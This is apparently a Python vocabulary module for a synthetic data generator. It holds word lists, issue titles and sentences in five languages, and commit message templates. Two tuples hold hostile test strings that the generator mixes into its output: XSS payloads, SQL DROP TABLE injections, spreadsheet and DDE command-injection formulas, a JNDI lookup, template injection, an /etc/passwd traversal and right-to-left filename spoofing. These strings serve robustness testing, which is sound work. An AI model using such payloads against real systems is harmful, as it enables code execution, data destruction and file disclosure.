"""The twin's vocabulary: words, sentence patterns and hostile strings.

Belongs here: constants from which names and texts are put together, and the functions that put
texts together. Does not belong here: who writes what when (`world`, `archive`, `hub`).

All of it was written for the twin. Plain e-mail addresses use the reserved example domains
only, so that a test can search every artefact of a run for them.
"""

import numpy as np


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


ADJECTIVES = _words(
    "amber bold brisk calm clever coral crisp dapper eager early fable fleet frosty gentle glad "
    "golden green hardy humble indigo ivory jolly keen kind lively lucid lunar mellow merry misty "
    "nimble noble odd olive pale patient plain polar proud quick quiet rapid rare royal rusty "
    "sable shy silent silver sleek solar spry stark steady stout sunny swift tidy urban vivid "
    "warm wild witty zesty"
)
NOUNS = _words(
    "acorn anchor arrow atlas badger basin beacon birch bridge brook canyon cedar cinder cliff "
    "cobalt comet copper crane delta dune ember falcon fern fjord flint forge gable garnet glacier "
    "grove harbor hazel heron hollow ibis inlet iris jasper juniper kestrel lagoon lantern larch "
    "ledger lichen linden lotus maple marsh meadow mesa mill moss nectar oak orchard osprey otter "
    "pebble pine plover prairie quartz quill raven reef ridge river robin saddle sage spruce "
    "summit thistle tide timber tundra valley violet walnut willow wren yarrow"
)
ACTIVITIES = _words(
    "parser router queue cache mesh pilot kit lab store graph stack bench sync viewer engine "
    "client server deck board agent tracker planner notes theme bot dotfiles site docs"
)
GIVEN_NAMES = _words(
    "Ana Bo Chen Dina Emre Farah Goran Hana Ivo Jun Kofi Lena Mika Nadia Omar Paula Quinn Rosa "
    "Sven Tara Uma Viktor Wen Ximena Yara Zoltan"
)
FAMILY_NAMES = _words(
    "Abbott Berg Costa Dietz Eriksen Fontaine Gupta Haas Ito Jansen Kovac Lind Moreau Novak Okafor "
    "Petrov Quist Rossi Silva Tanaka Ueda Vargas Weber Xu Yilmaz Zhao"
)
MAIL_DOMAINS = ("mail.example", "inbox.example", "users.noreply.github.example",
                "uni-north.example", "acme.example", "hollow-labs.example", "lattice.example",
                "students.example")  # fmt: skip
LANGUAGES = ("Python", "JavaScript", "TypeScript", "Go", "Rust", "Java", "C++", "C", "Ruby",
             "Shell")  # fmt: skip
LICENCES = (
    ("mit", "MIT License", "MIT"),
    ("apache-2.0", "Apache License 2.0", "Apache-2.0"),
    ("gpl-3.0", "GNU General Public License v3.0", "GPL-3.0"),
    ("bsd-3-clause", 'BSD 3-Clause "New" or "Revised" License', "BSD-3-Clause"),
)
THEMES = ("bug", "suggestion", "usage", "performance", "other")

# What a careless reader, query builder, page or spreadsheet trips over.
HOSTILE = (
    "<script>alert('twin')</script>",
    '=HYPERLINK("http://twin.example/?"&A1,"click")',
    "'; DROP TABLE fct_interaction; --",
    "null byte \x00 inside",
    "\U0001f680\U0001f9ea right-to-left \u202egnp.exe\u202c and a line\u2028separator",
    "long " * 900 + "end",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://twin.example/a} {{7*7}} %s %(x)d \\x41 ../../etc/passwd",
    '"><img src=x onerror=alert(1)>',
    "tab\there\r\nnew line and 'quotes' \"both\" `ticks`",
)
# Names no platform would grant, which a mirror or a proxy can still deliver.
HOSTILE_NAMES = (
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("twin")',
    "';DROP TABLE dim_repository;--",
    "null",
    "1e5",
    "__proto__",
    "-rf",
    "caf\u00e9-\U0001f600",
)

# ---------------------------------------------------------------- themes in five languages

LANGUAGE_CODES = ("en", "zh", "es", "fr", "ja")
# Titles and sentences of each theme: what a reader or a classifier has to go by.
THEME_TITLES: dict[str, dict[str, tuple[str, ...]]] = {
    "en": {
        "bug": (
            "{n} crashes when the {a} {x} is empty",
            "Wrong result in {n} after upgrade to {v}",
            "TypeError in {x}: unexpected {a} value",
            "{x} hangs on start since {v}",
            "Memory leak in the {a} {x}",
            "Regression: {n} no longer reads {a} files",
            "Output of {x} is truncated at {d}00 lines",
        ),
        "suggestion": (
            "Add support for {a} {x}",
            "Feature request: let {n} export {x} data",
            "Allow a custom {x} in {n}",
            "Proposal: make the {x} pluggable",
            "Could {n} remember the last {x}?",
            "Support {v} of the {n} format",
        ),
        "usage": (
            "How do I configure {n} for a {a} {x}?",
            "Question about {x} settings",
            "Cannot install {n} {v} on my machine",
            "Where is the {x} supposed to be put?",
            "What licence applies to the {a} {x}?",
            "Minimal example for {n} with a {x}?",
        ),
        "performance": (
            "{n} is twice as slow as {v} on our {x} benchmark",
            "Score of {n} on the {a} test set",
            "Results of {n} {v} against {a} {n}",
            "Great quality with the {a} {x}, numbers inside",
            "{x} throughput: {d}1 against {d}9 items per second",
        ),
        "other": (
            "Thank you for {n}",
            "Weekly notes {v}",
            "Update {x}",
            "Release {v}",
            "Is {n} still maintained?",
            "Test, please ignore",
        ),
    },
    "zh": {
        "bug": ("{n} 在 {x} 为空时崩溃", "升级到 {v} 后 {x} 结果错误", "{x} 报错:意外的值"),
        "suggestion": ("希望支持自定义 {x}", "建议:为 {n} 增加导出功能", "能否支持 {v} 格式"),
        "usage": ("如何配置 {n} 的 {x}?", "{n} {v} 安装失败,请问怎么解决", "{x} 应该放在哪里?"),
        "performance": ("{n} 在 {x} 测试集上的得分", "{v} 比旧版本慢一倍", "{n} 评测结果分享"),
        "other": ("感谢 {n} 团队", "{v} 发布说明", "测试,请忽略"),
    },
    "es": {
        "bug": ("{n} falla cuando el {x} está vacío", "Resultado incorrecto en {x} desde {v}"),
        "suggestion": ("Añadir soporte para {x}", "Propuesta: exportar los datos de {n}"),
        "usage": ("¿Cómo configuro {n} para {x}?", "No puedo instalar {n} {v} en mi equipo"),
        "performance": ("Resultados de {n} en nuestro {x}", "{v} es más lento que antes"),
        "other": ("Gracias por {n}", "Notas de la semana {v}"),
    },
    "fr": {
        "bug": ("{n} plante quand le {x} est vide", "Résultat faux dans {x} depuis {v}"),
        "suggestion": ("Ajouter la prise en charge de {x}", "Proposition : exporter vers {n}"),
        "usage": ("Comment configurer {n} pour {x} ?", "Impossible d'installer {n} {v} chez moi"),
        "performance": ("Résultats de {n} sur notre jeu {x}", "{v} est plus lent qu'avant"),
        "other": ("Merci pour {n}", "Notes de la semaine {v}"),
    },
    "ja": {
        "bug": ("{x} が空のとき {n} が落ちる", "{v} に更新後 {x} の結果がおかしい"),
        "suggestion": ("{x} のサポートを追加してほしい", "提案:{n} にエクスポート機能を"),
        "usage": ("{n} で {x} を設定する方法を教えてください", "{n} {v} をインストールできません"),
        "performance": ("{n} の {x} ベンチマーク結果", "{v} は以前より遅い"),
        "other": ("{n} をありがとうございます", "{v} リリースノート"),
    },
}  # fmt: skip
THEME_SENTENCES: dict[str, dict[str, tuple[str, ...]]] = {
    "en": {
        "bug": (
            "I expected a result and got an exception instead.",
            "The log says `{x}: {a} state` and nothing else.",
            "It worked in {v}.",
            "Steps: install, run the {x}, wait.",
            "The stack trace ends in `{n}.{x}` at line {d}7.",
            "The {a} {x} returns the wrong value every time.",
            "This broke between {v} and the current release.",
        ),
        "suggestion": (
            "It would help us a lot if {n} could read a {a} {x}.",
            "I can prepare a patch.",
            "Today we work around it with a {x} of our own.",
            "Other tools have an option for this already.",
            "I propose a new flag `--{x}` with a {a} default.",
        ),
        "usage": (
            "The manual does not say where the {x} goes.",
            "Which version of {n} do I need?",
            "Is a {a} {x} supported at all?",
            "I am new to this, sorry if it is obvious.",
            "What is the right command to start the {x} with {d} workers?",
            "My environment is {n} {v} on a laptop.",
        ),
        "performance": (
            "We measured 1.{d} s before and 2.{d} s now.",
            "The {x} reaches {d}.4 points on our set.",
            "On the {a} benchmark it beats {n} by {d} points.",
            "In my experience the answers are better than those of {n}.",
            "Throughput went from {d}0 to {d}5 items per second.",
        ),
        "other": (
            "Nothing urgent.",
            "See the {x} for details.",
            "Regards from the {n} team.",
            "The meeting moves to next week.",
            "Closing this, it was opened by mistake.",
        ),
    },
    "zh": {
        "bug": ("程序直接抛出异常。", "在 {v} 中是正常的。", "日志只显示 `{x}: {a}`。"),
        "suggestion": ("如果能支持 {x} 会很有帮助。", "我可以提交补丁。"),
        "usage": ("文档没有说明 {x} 放在哪里。", "需要哪个版本的 {n}?", "我是新手,请多指教。"),
        "performance": ("之前 1.{d} 秒,现在 2.{d} 秒。", "在我们的测试集上得分 {d}.4。"),
        "other": ("不着急。", "详见 {x}。"),
    },
    "es": {
        "bug": ("Esperaba un resultado y obtuve una excepción.", "En {v} funcionaba."),
        "suggestion": ("Nos ayudaría mucho que {n} leyera {x}.", "Puedo preparar un parche."),
        "usage": ("El manual no dice dónde va el {x}.", "¿Qué versión de {n} necesito?"),
        "performance": ("Medimos 1.{d} s antes y 2.{d} s ahora.", "Obtiene {d}.4 puntos."),
        "other": ("Nada urgente.", "Saludos del equipo de {n}."),
    },
    "fr": {
        "bug": ("J'attendais un résultat et j'ai eu une exception.", "Cela marchait en {v}."),
        "suggestion": ("Il serait utile que {n} lise {x}.", "Je peux préparer un correctif."),
        "usage": ("Le manuel ne dit pas où mettre le {x}.", "Quelle version de {n} faut-il ?"),
        "performance": (
            "Mesuré : 1.{d} s avant, 2.{d} s après.",
            "Il obtient {d}.4 points.",
        ),
        "other": ("Rien d'urgent.", "Salutations de l'équipe {n}."),
    },
    "ja": {
        "bug": ("例外が発生します。", "{v} では動いていました。"),
        "suggestion": ("{n} が {x} を読めると助かります。", "パッチを用意できます。"),
        "usage": ("{x} の置き場所が説明書にありません。", "{n} のどの版が必要ですか。"),
        "performance": ("以前は 1.{d} 秒、今は 2.{d} 秒です。", "スコアは {d}.4 でした。"),
        "other": ("急ぎではありません。", "詳細は {x} を見てください。"),
    },
}
# The headings of issue forms; what stands below them is the reporter's.
TEMPLATES = {
    "bug": ("### Describe the bug", "### To reproduce", "### Expected behaviour", "### Version"),
    "suggestion": ("### Is there a problem behind this?", "### What would you like?"),
    "usage": ("### Question", "### What have you tried?", "### Environment"),
    "performance": ("### Setup", "### Measured", "### Compared with"),
    "other": ("### Description", "### Additional context"),
}
LABELS = ("bug", "enhancement", "question", "performance", "documentation")
REPLIES = {
    "en": ("Same here.", "Thanks, fixed on main.", "Can you share the {x}?", "+1",
           "Which version of {n} is this?", "Closing as there was no answer.", "See #{d}."),
    "zh": ("我也遇到了。", "谢谢,已修复。", "请提供 {x}。"),
    "es": ("A mí también me pasa.", "Gracias, ya está corregido."),
    "fr": ("Pareil ici.", "Merci, c'est corrigé."),
    "ja": ("同じ問題があります。", "ありがとうございます、修正しました。"),
}  # fmt: skip
# Why and how, in more than a line: what the study calls substantive.
SUBSTANTIVE = (
    "Keep the {x} open while the {n} is read\n\nClosing it early lost the last block whenever the "
    "{a} reader was slower than\nthe writer. The lock now covers both, at the price of one more "
    "copy.",
    "Replace the {a} {x} by a table lookup\n\nThe old loop was quadratic in the number of entries; "
    "with {d}0,000 of them a run took\nminutes. Measured: 2.{d} s before, 0.{d} s after.",
    "Fix a race between {n} and the {x}\n\nBoth checked the state before taking the lock, so two "
    "workers could claim the\nsame {n}. The check now happens inside.",
    "Train with a longer context and a {a} schedule\n\nThe loss of the {n} run flattened after "
    "{d}000 steps because the rate decayed too\nearly. This keeps it constant for the first half.",
    "Drop support for {n} before {v}\n\nNobody has reported using it for a year, and it is the "
    "only reason for the {a}\nfallback in the {x}, which hides real errors.",
)
TEMPLATE_MESSAGES = (
    "Bump {n} from {v} to {d}.{d}.1",
    "Merge branch 'main' into {n}",
    "Update README.md",
    "Release {v}",
    "chore(deps): update {n} to v{v}",
    "Auto-generated by the {x} workflow",
)
TRIVIAL_MESSAGES = (
    "wip", "fix", "update", "Fix {a} {x}", "Update {x}", "Add {n} {x}", "typo", "cleanup",
    "Refactor {x}", "docs: {x}", "more tests", "lint", 'Revert "Add {a} {x}"', ".",
)  # fmt: skip
HUB_TEMPLATE_MESSAGES = (
    "Upload folder using huggingface_hub", "Upload tokenizer", "Upload model",
    "Training in progress, step {d}00", "End of training", "Create README.md",
    "Upload {n}-{d}B-GGUF with huggingface_hub", "Push model using huggingface_hub.",
    "Model save",
)  # fmt: skip
HUB_TRIVIAL_MESSAGES = (
    "Update README.md", "Update config.json", "Delete old weights", "Add quantised weights",
    "Rename {n}.bin", "fix", "Update {x}.py",
)  # fmt: skip


def filled(pattern: str, number: int) -> str:
    """A pattern with words chosen by one non-negative number below 2**60."""
    d = number >> 40
    return pattern.format(
        a=ADJECTIVES[(number & 0xFFFFF) % len(ADJECTIVES)],
        n=NOUNS[(number >> 10 & 0xFFFFF) % len(NOUNS)],
        x=ACTIVITIES[(number >> 20 & 0xFFFFF) % len(ACTIVITIES)],
        v=f"{d % 5}.{d // 5 % 20}.{d // 100 % 10}",
        d=d % 9 + 1,
    )


def address(number: int) -> str:
    """`Given Family <address>` with a plain address of a reserved domain."""
    given = GIVEN_NAMES[(number & 0xFFFF) % len(GIVEN_NAMES)]
    family = FAMILY_NAMES[(number >> 16 & 0xFFFF) % len(FAMILY_NAMES)]
    domain = ("example.org", "example.com", "example.net")[(number >> 32) % 3]
    return f"{given} {family} <{given.lower()}.{family.lower()}@{domain}>"


def titles(theme: str, count: int, rng: np.random.Generator) -> list[str]:
    """`count` English thread titles of one theme."""
    patterns = THEME_TITLES["en"][theme]
    numbers = rng.integers(0, 1 << 60, count).tolist()
    return [filled(patterns[i % len(patterns)], number) for i, number in enumerate(numbers)]


def person_name(given: int, family: int) -> str:
    """A full name from two arbitrary non-negative numbers."""
    return f"{GIVEN_NAMES[given % len(GIVEN_NAMES)]} {FAMILY_NAMES[family % len(FAMILY_NAMES)]}"


def compound(number: int, separator: str = "-") -> str:
    """An adjective-noun compound from an arbitrary non-negative number."""
    adjective = ADJECTIVES[number % len(ADJECTIVES)]
    noun = NOUNS[number // len(ADJECTIVES) % len(NOUNS)]
    return f"{adjective}{separator}{noun}"
